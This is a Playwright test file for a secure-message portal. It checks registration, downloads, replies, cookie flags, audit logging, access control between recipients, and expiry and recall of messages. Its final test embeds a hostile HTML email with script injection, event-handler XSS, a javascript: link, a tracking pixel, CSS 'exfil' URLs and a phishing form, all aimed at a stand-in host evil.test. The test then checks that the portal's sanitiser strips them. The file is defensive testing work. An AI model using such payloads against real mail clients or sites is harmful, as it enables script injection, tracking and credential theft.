@@ -1,0 +1,171 @@
+/**
+ * The portal's pages in headless Chromium over a seeded store: link landing (a GET burns
+ * nothing), first-visit registration, reading, downloading, replying; expired, recalled and
+ * other recipients' messages stay closed (IDOR); hostile HTML is neutralised.
+ */
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFile } from 'node:fs/promises';
+import type { Page } from 'playwright-core';
+import { closeBrowser, newPage } from '../helpers/browser.js';
+import { SIMPLE, startHarness, type Harness } from './portal-harness.js';
+
+let h: Harness;
+before(async () => {
+  h = await startHarness();
+});
+after(async () => {
+  await closeBrowser();
+  await h.close();
+});
+
+const PASSWORD = 'lilac tractor moonbeam 42';
+
+async function register(page: Page, link: string) {
+  await page.goto(link);
+  await page.getByRole('button', { name: 'Open my secure message' }).click();
+  await page.getByLabel('New password').fill(PASSWORD);
+  await page.getByLabel('Repeat the password').fill(PASSWORD);
+  await page.getByRole('button', { name: 'Create account' }).click();
+}
+
+test('a link scanner GET burns nothing; the recipient registers, reads, downloads and replies', async () => {
+  const { message, link } = await h.deposit(SIMPLE, { recipient: 'bob@partner.test' });
+  // a link scanner fetches the link first
+  const scan = await fetch(link).catch(() => null); // self-signed: Node's fetch refuses, the browser below is the scanner
+  void scan;
+  const { page, context } = await newPage();
+  try {
+    const landing = await page.goto(link);
+    assert.equal(landing?.status(), 200);
+    const again = await page.goto(link);
+    assert.equal(again?.status(), 200, 'GETs never consume the token');
+    const csp = landing?.headers()['content-security-policy'] ?? '';
+    assert.match(csp, /default-src 'none'/);
+    assert.match(csp, /frame-ancestors 'none'/);
+    await register(page, link);
+    await page.waitForURL(`**/messages/${message.id}`);
+    assert.equal(await page.locator('h1').textContent(), 'Quarterly figures');
+    assert.match(await page.locator('pre.mail').textContent() ?? '', /the figures are attached\. Grüße/);
+    assert.equal(await page.locator('html').getAttribute('lang'), 'en');
+    const cookies = await context.cookies();
+    const session = cookies.find((c) => c.name === 'sp_session')!;
+    assert.ok(session.secure && session.httpOnly && session.sameSite === 'Strict', 'session cookie is Secure, HttpOnly, SameSite=Strict');
+
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: /figures\.pdf/ }).click()]);
+    assert.equal(download.suggestedFilename(), 'figures.pdf');
+    assert.equal((await readFile((await download.path())!)).toString(), '%PDF-1.4 figures for Bob');
+
+    // the link was used: a second POST does not log anyone in
+    const { page: other, context: otherContext } = await newPage();
+    await other.goto(link);
+    assert.match((await other.locator('.alert.error').textContent()) ?? '', /cannot be used any more/);
+    await otherContext.close();
+
+    await page.getByRole('link', { name: 'Reply', exact: true }).click();
+    assert.match(await page.locator('form').last().textContent() ?? '', /alice@example\.test/);
+    await page.getByLabel('Message').fill('Thanks Alice, received.');
+    await page.getByLabel('Attachments (optional)').setInputFiles({ name: 'answer.txt', mimeType: 'text/plain', buffer: Buffer.from('my answer') });
+    await page.getByRole('button', { name: 'Send securely' }).click();
+    await page.waitForURL('**/sent?done=1');
+    assert.match(await page.locator('.alert.ok').textContent() ?? '', /sent securely/);
+    const r = h.replies.at(-1)!;
+    assert.equal(r.kind, 'reply');
+    assert.deepEqual(r.to, ['alice@example.test']);
+    assert.equal(r.subject, 'Re: Quarterly figures');
+    assert.match(r.text, /^Thanks Alice, received\./);
+    assert.equal(r.attachments[0]?.filename, 'answer.txt');
+    assert.equal(r.attachments[0]?.content.toString(), 'my answer');
+    assert.match(await page.locator('table.list').textContent() ?? '', /Re: Quarterly figures/);
+
+    const audit = await h.stores.portal.audit.list({ address: 'bob@partner.test' });
+    const events = audit.map((e) => e.event);
+    for (const e of ['password-set', 'login', 'read', 'download', 'reply']) assert.ok(events.includes(e as never), `audit has ${e}`);
+    assert.ok(!JSON.stringify(audit).includes(PASSWORD), 'no password in the audit log');
+  } finally {
+    await context.close();
+  }
+});
+
+test('expired and recalled messages cannot be read; another recipient cannot open them (IDOR)', async () => {
+  const carolPw = 'carol orchard lantern 77';
+  const mine = await h.deposit(SIMPLE, { recipient: 'carol@partner.test' });
+  const recalled = await h.deposit(SIMPLE, { recipient: 'carol@partner.test', subject: 'to be recalled' });
+  const expiring = await h.deposit(SIMPLE, { recipient: 'carol@partner.test', subject: 'short-lived', expiresAt: Date.now() + 1500 });
+  const bobs = await h.deposit(SIMPLE, { recipient: 'dave@partner.test', subject: 'for dave only' });
+  const { page, context } = await newPage();
+  try {
+    await page.goto(mine.link);
+    await page.getByRole('button', { name: 'Open my secure message' }).click();
+    await page.getByLabel('New password').fill(carolPw);
+    await page.getByLabel('Repeat the password').fill(carolPw);
+    await page.getByRole('button', { name: 'Create account' }).click();
+    await page.waitForURL(`**/messages/${mine.message.id}`);
+
+    const dave = await page.goto(`${h.portal.url}/messages/${bobs.message.id}`);
+    assert.equal(dave?.status(), 404, "another recipient's message answers like an unknown one");
+    assert.doesNotMatch(await page.content(), /for dave only/);
+    const daveAttachment = await page.goto(`${h.portal.url}/messages/${bobs.message.id}/parts/2`);
+    assert.equal(daveAttachment?.status(), 404);
+
+    assert.equal((await page.goto(`${h.portal.url}/messages/${recalled.message.id}`))?.status(), 200);
+    await h.stores.portal.messages.recall(recalled.message.id);
+    const afterRecall = await page.goto(`${h.portal.url}/messages/${recalled.message.id}`);
+    assert.equal(afterRecall?.status(), 410);
+    assert.match(await page.locator('.alert.error').textContent() ?? '', /expired or was withdrawn/);
+
+    await new Promise((r) => setTimeout(r, 1600));
+    const expired = await page.goto(`${h.portal.url}/messages/${expiring.message.id}`);
+    assert.equal(expired?.status(), 410);
+    await page.goto(`${h.portal.url}/inbox`);
+    const inbox = await page.locator('main').textContent();
+    assert.match(inbox ?? '', /Quarterly figures/);
+    assert.doesNotMatch(inbox ?? '', /to be recalled|short-lived|for dave only/);
+  } finally {
+    await context.close();
+  }
+});
+
+test('hostile HTML: no script runs, no remote image or CSS fetch, no form, framed in a sandbox', async () => {
+  let remoteHits = 0;
+  const hostile = [
+    'From: Mallory <alice@example.test>',
+    'To: erin@partner.test',
+    'Subject: hostile',
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<html><head><style>body{background:url(https://evil.test/css-bg)}</style><script>parent.document.title="pwned"</script></head>',
+    '<body onload="parent.document.title=\'pwned\'"><p id="x" style="color:red;background-image:url(https://evil.test/exfil?a)">Visible text</p>',
+    '<img src="https://evil.test/pixel.gif" alt="tracker"><img src="x" onerror="parent.document.title=\'pwned\'">',
+    '<a href="javascript:alert(1)">js link</a><a href="https://example.org/">ok link</a>',
+    '<form action="https://evil.test/phish"><input name="password"></form><iframe src="https://evil.test/frame"></iframe>',
+    '<svg><script>alert(1)</script></svg><object data="https://evil.test/o"></object>',
+    '</body></html>',
+  ].join('\r\n');
+  const m = await h.deposit(hostile, { recipient: 'erin@partner.test', security: 'none' });
+  const { page, context } = await newPage();
+  await context.route(/evil\.test/, (route) => {
+    remoteHits++;
+    return route.abort();
+  });
+  try {
+    await page.goto(m.link);
+    await page.getByRole('button', { name: 'Open my secure message' }).click();
+    await page.waitForURL(`**/messages/${m.message.id}`);
+    const frameEl = page.locator('iframe.mail');
+    assert.equal(await frameEl.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox', 'no allow-scripts, no allow-same-origin');
+    const srcdoc = (await frameEl.getAttribute('srcdoc')) ?? '';
+    for (const bad of [/<script/i, /onload=/i, /onerror=/i, /evil\.test/, /javascript:/i, /<form/i, /<iframe/i, /<object/i, /<svg/i, /url\(/i]) assert.doesNotMatch(srcdoc, bad);
+    assert.match(srcdoc, /Visible text/);
+    assert.match(srcdoc, /color:red/);
+    assert.match(srcdoc, /https:\/\/example\.org\//);
+    const frame = page.frameLocator('iframe.mail');
+    assert.equal(await frame.locator('p').first().textContent(), 'Visible text', 'the mail renders inside the frame');
+    await page.waitForTimeout(300);
+    assert.notEqual(await page.title(), 'pwned');
+    assert.equal(remoteHits, 0, 'nothing was fetched from the hostile host');
+  } finally {
+    await context.close();
+  }
+});
